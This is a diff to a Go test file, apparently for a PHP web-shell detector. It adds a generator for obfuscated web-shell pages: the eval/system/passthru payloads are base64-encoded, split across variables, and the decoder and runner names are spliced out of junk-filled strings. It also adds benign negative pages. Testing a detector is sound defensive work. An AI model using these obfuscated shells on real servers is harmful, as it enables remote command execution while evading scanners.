@@ -71,6 +71,104 @@ func classPages(r *rand.Rand) []techVariant {
 	return out
 }
 
+// splicePages: the names of the runner and the decoder are spliced out of literals filled
+// with junk (str_replace, str_ireplace, strtr with a map), the payload is split over several
+// variables and the junk taken out of it before it is decoded and run; the page spells none
+// of the names it calls.
+func splicePages(r *rand.Rand) []techVariant {
+	payloads := []string{"@eval($_POST['%s']);", "system($_REQUEST['%s']);", "eval(base64_decode($_COOKIE['%s']));", "passthru($_GET[\"%s\"]);"}
+	var out []techVariant
+	for n := 0; n < 32; n++ {
+		junk := []string{"#;", "x9q", "@@", "~_~", "QZ1"}[r.Intn(5)]
+		fill := func(s string) string {
+			var b strings.Builder
+			for i := 0; i < len(s); i++ {
+				if r.Intn(2) == 0 {
+					b.WriteString(junk)
+				}
+				b.WriteByte(s[i])
+			}
+			return b.String()
+		}
+		mixed := func(s string) string {
+			if n%4 != 1 {
+				return s
+			}
+			return strings.ToUpper(s[:1]) + s[1:]
+		}
+		jv := "$" + word(r)
+		head := jv + " = '" + junk + "';\n"
+		unjunk := func(lit string) string {
+			switch n % 4 {
+			case 0:
+				return "str_replace(" + jv + ", '', " + lit + ")"
+			case 1:
+				return "str_ireplace(" + jv + ", \"\", " + mixed(lit) + ")"
+			case 2:
+				return "strtr(" + lit + ", array(" + jv + " => ''))"
+			}
+			return "str_replace('" + junk + "', '', " + lit + ")"
+		}
+		if n%4 == 3 {
+			head = ""
+		}
+		// the remover itself, spliced, once the page has it
+		rep := "$" + word(r)
+		spliced := func(name string) string { return rep + "(" + jv + ", '', '" + fill(name) + "')" }
+		if n%4 != 0 {
+			spliced = func(name string) string { return unjunk("'" + fill(name) + "'") }
+		} else {
+			head += rep + " = " + unjunk("'"+fill("str_replace")+"'") + ";\n"
+		}
+		dec, run := "$"+word(r), "$"+word(r)
+		head += dec + " = " + spliced("base64_decode") + ";\n"
+		body := fmt.Sprintf(payloads[r.Intn(len(payloads))], strings.ToLower(word(r)))
+		enc := b64(body)
+		double := r.Intn(2) == 0
+		if double {
+			enc = b64(enc)
+		}
+		enc = fill(enc)
+		// split over two to four variables
+		var parts []string
+		k := 2 + r.Intn(3)
+		for i := 0; i < k; i++ {
+			lo, hi := i*len(enc)/k, (i+1)*len(enc)/k
+			v := "$" + word(r)
+			head += v + " = '" + enc[lo:hi] + "';"
+			if r.Intn(2) == 0 {
+				head += "\n"
+			}
+			parts = append(parts, v)
+		}
+		head += "\n"
+		joined := strings.Join(parts, ".")
+		if n%4 == 3 {
+			joined = "str_replace('" + junk + "', '', " + joined + ")"
+		} else if n%4 == 2 {
+			joined = "strtr(" + joined + ", array(" + jv + " => ''))"
+		} else {
+			joined = unjunk(joined)
+			if n%4 == 0 {
+				joined = rep + "(" + jv + ", '', " + joined + ")"
+			}
+		}
+		code := dec + "(" + joined + ")"
+		if double {
+			code = dec + "(" + code + ")"
+		}
+		var page string
+		switch r.Intn(2) {
+		case 0:
+			page = head + run + " = " + spliced("create_function") + ";\n$" + "g = " + run + "('', " + code + ");\n$" + "g();\n"
+		case 1:
+			page = head + run + " = " + spliced("create_function") + "; " + run + " = " + run + "('', " + code + "); " + run + "();\n"
+		}
+		out = append(out, techVariant{"spliced-names", "/var/www/html/wp-content/themes/t/inc/" + word(r) + ".inc.php", "<?php\n" + page + "?>\n"})
+	}
+	return out
+}
+
 // word is a random PHP identifier.
 func word(r *rand.Rand) string {
 	const first = "abcdefghijklmnopqrstuvwxyz_"
@@ -86,6 +184,7 @@ func TestHarnessTechniques2(t *testing.T) {
 	r := rand.New(rand.NewSource(11))
 	var vs []techVariant
 	vs = append(vs, classPages(r)...)
+	vs = append(vs, splicePages(r)...)
 	a := New()
 	type tally struct{ found, total int }
 	by := map[string]*tally{}
@@ -118,6 +217,8 @@ func TestHarnessTechniques2(t *testing.T) {
 func TestTechnique2Negatives(t *testing.T) {
 	pages := map[string]string{
 		"/var/www/html/search.php": "<?php\nclass Search {\n  public $q;\n  function __construct() { $this->q = $_REQUEST['q'] ?? ''; }\n}\n$s = new Search();\n$q = base64_decode($s->q);\necho htmlspecialchars($q);\n$st = $pdo->prepare('SELECT * FROM t WHERE n = ?');\n$st->execute([$s->q]);\n",
+		"/var/www/html/hooks.php":  "<?php\n$sep = '-';\n$name = str_replace($sep, '_', 'render-title');\n$fn = 'hook_' . $name;\nfunction hook_render_title($t) { return '<h1>' . htmlspecialchars($t) . '</h1>'; }\necho $fn('Welcome');\n$msg = strtr('Hello {who}', array('{who}' => 'world'));\n$out = 'strtoupper';\necho $out($msg);\n",
+		"/var/www/html/slug.php":   "<?php\n$junk = array('#', '%');\n$clean = str_replace($junk, '', 'my#page%title');\n$f = 'ucwords';\n$t = $f(str_replace('_', ' ', $clean));\n$cb = function ($s) { return trim($s); };\necho $cb($t);\n",
 		"/var/www/html/view.php":   "<?php\nclass Req { public $page; function __construct() { $this->page = $_GET['page'] ?? 'home'; } }\nclass Tpl { public $code = 'return 1;'; }\n$r = new Req();\n$t = new Tpl();\n$x = eval($t->code);\necho htmlspecialchars($r->page);\n",
 	}
 	for p, page := range pages {
